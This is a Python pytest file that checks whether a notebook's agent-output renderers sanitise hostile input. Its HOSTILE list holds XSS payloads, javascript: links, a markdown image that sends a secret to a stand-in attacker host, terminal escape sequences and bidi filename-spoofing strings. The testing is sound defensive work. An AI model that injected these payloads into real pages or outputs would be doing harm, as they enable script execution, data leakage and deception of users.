"""Whatever an agent, a file name, a tool or an id says: the output holds allow-listed HTML and harmless text only."""

from __future__ import annotations

import io
import json
from collections.abc import Callable

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from agentsvc_nb.notebook.ask.history import runs
from agentsvc_nb.notebook.display.file_table import files_bundle, records_bundle
from agentsvc_nb.notebook.display.render import (
    Bundle,
    answer_bundle,
    error_bundle,
    stack,
    status_bundle,
    text_bundle,
)
from agentsvc_nb.notebook.display.sources import sources_html
from agentsvc_nb.notebook.display.transcript import RunView, TimelineEntry, ToolCall
from agentsvc_nb.notebook.files.gallery import Pictures, gallery_bundle
from agentsvc_nb.notebook.files.workspace import search_bundle
from agentsvc_nb.notebook.jobs.output import job_bundle, result_bundle
from agentsvc_nb.notebook.jobs.tools import tools_bundle
from agentsvc_nb.notebook.state.journal import Journal, JournalEntry, now
from agentsvc_nb.notebook.state.session import Session
from agentsvc_nb.tools.ads.models import DESIGN
from agentsvc_nb.wire.files import FileSearch, SearchResult, SnippetPart, WorkspaceFile
from agentsvc_nb.wire.runs import Run
from agentsvc_nb.wire.tools import Job, Progress, ToolDescription, ToolError, ToolResult
from tests.notebook.allowlist import FORBIDDEN, offences

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<img src=x onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<style>@import url(//evil.example/x.css)</style>",
    '<a href="javascript:alert(1)">x</a>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '" onmouseover="alert(1)',
    "`<b onclick=alert(1)>`",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/steal)",
    '[x](https://ok.example "\\" onmouseover=alert(1)")',
    "![pixel](http://evil.example/p.png?q=secret)",
    "![x][ref]\n\n[ref]: javascript:alert(1)",
    "```jp-Dialog</code></pre><script>alert(1)</script>\nx\n```",
    "| a <script> | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;evil &#27;[31m",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m\x1bP1;2q\x1b\\ \x1bc reset \x08\x08\x08 back \x00 nul \x7f del",
    "abc\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u061c",
    "lone surrogate \ud800 and \udfff",
    "line one\rline two\u2028three\u2029four",
    "$$\\href{javascript:alert(1)}{x}$$ \\url{javascript:alert(1)}",
    "<" * 2000,
    "[" * 2000,
    "> " * 500 + "deep",
    "x" * 5000,
]


def _calls(text: str) -> list[ToolCall]:
    return [ToolCall(1, text, text, given=text, at=text, until=text), ToolCall(2, "b", text, True)]


def _records(text: str) -> Bundle:
    return stack([error_bundle(text, text), records_bundle([text], [{text: text}, {"a": [text]}])])


def _view(text: str) -> RunView:
    run = Run(
        run_id=text,
        status=text,
        chat=text,
        output=text,
        last_error=text,
        last_error_message=text,
        app_url=text,
    )
    view = RunView(run_id=text, status=text, warnings=[text], calls=_calls(text), marks=[TimelineEntry(3, text, text)])
    view.run = run
    return view


def _active(text: str) -> RunView:
    view = _view(text)
    view.run, view.progress = None, {"done": text, "total": 3, "message": text}
    return view


def _files(text: str) -> Bundle:
    file = WorkspaceFile(id=text, path=text, file_name=text, name=text, media_type=text, size_bytes=3)
    picture = file.model_copy(update={"media_type": "image/svg+xml", "path": "p" + text})
    return files_bundle([file, picture], lambda _: text.encode("utf-8", "replace"), caption=text)


def _job(text: str) -> Bundle:
    content = [{"type": "text", "text": text}, {"type": text, "text": text}]
    progress = Progress(done=1, total=2, message=text)
    job = Job(job_id=text, tool=text, status=text, content=content, progress=progress)
    job.error = ToolError(code=text, message=text)
    return job_bundle(job, 1.0, (text,), _files(text))


def _tool(text: str) -> ToolDescription:
    field = {"type": text, "description": text, "enum": [text], "default": text}
    nested = {"properties": {text: field}, "required": [text]}
    schema = {"properties": {text: field, "a": nested, "b": {"$ref": text}, "c": text}, "required": [text]}
    return ToolDescription(name=text, description=text, family=text, input_schema=schema)


def _result(text: str) -> Bundle:
    blocks = [{"type": kind, "text": text, "path": text, "json": {text: [text]}} for kind in ("text", "image", "json")]
    error = ToolError(code=text, message=text)
    result = ToolResult(tool=text, is_error=True, error=error, content=[*blocks, {text: text}, {"type": text}])
    return result_bundle(result, (text,), {})


def _search(text: str) -> Bundle:
    parts = [SnippetPart(text=text, match=match) for match in (True, False, True)]
    found = SearchResult(id=text, path=text, file_name=text, name=text, match=text, snippets=[parts, parts])
    return search_bundle(FileSearch(results=[found]), text)


def _session(text: str) -> Session:
    session = Session("x.ipynb", environ={}, journal=Journal(None))
    stored = text.encode("utf-8", "replace").decode()
    entry = JournalEntry(
        "k", "", "x.ipynb", "elsewhere", stored, prompt=stored, chat=stored, status=stored, created_at=now()
    )
    session.journal.start(entry)
    return session


def _runs(text: str) -> Bundle:
    session = _session(text)
    session.journal.execute(
        "UPDATE runs SET run_id = ?, started_at = ?, model = ?", [text.encode("utf-8", "replace")] * 3
    )
    return runs(_session(text))._repr_mimebundle_()


def _gallery(text: str) -> Bundle:
    """A picture with this inscription."""
    info, out = PngInfo(), io.BytesIO()
    info.add_itxt(DESIGN, json.dumps({"words": {"headline": text}}))
    Image.new("RGB", (80, 60)).save(out, "PNG", pnginfo=info)
    file = WorkspaceFile(id="2", path=text, file_name=text, media_type="image/png", size_bytes=9)
    return gallery_bundle(Pictures(lambda _: out.getvalue()), [file], {text: file})


PLACES: dict[str, Callable[[str], Bundle]] = {
    "agent text": text_bundle,
    "answer, ids, errors, tools, warnings": lambda text: answer_bundle(_view(text), notes=(text,), files=_files(text)),
    "status line while active": lambda text: status_bundle(_active(text)),
    "file names": _files,
    "records, why nothing was started": _records,
    "job, tool messages": _job,
    "catalog": lambda text: tools_bundle([_tool(text)]),
    "tool result": _result,
    "snippets": _search,
    "the journal": _runs,
    "the passages of sources": lambda text: {
        "text/plain": "",
        "text/html": "".join(sources_html("— `a.md`, line 2", lambda _: f"x\n{text}\nx".encode("utf-8", "replace"))),
    },
}


@pytest.mark.parametrize("place", PLACES)
def test_html_is_allow_listed_and_text_is_harmless(place: str) -> None:
    for text in HOSTILE:
        _is_harmless(PLACES[place](text), text)


def test_names_and_inscriptions_of_pictures_are_text() -> None:
    for text in HOSTILE[::12]:
        _is_harmless(_gallery(text), text)


def _is_harmless(bundle: Bundle, text: str) -> None:
    assert set(bundle) == {"text/plain", "text/html"}
    assert offences(bundle["text/html"]) == [], ascii(text)
    assert FORBIDDEN.findall(bundle["text/plain"]) == [], ascii(text)


@pytest.mark.parametrize(
    "html",
    ["<script>", "<a href='javascript:x'>", "<img src='http://x'>", "<b onclick=x>", "<p style='x:url(y);'>", "\x1b"],
)
def test_the_judge_itself_sees_offences(html: str) -> None:
    assert offences(html)
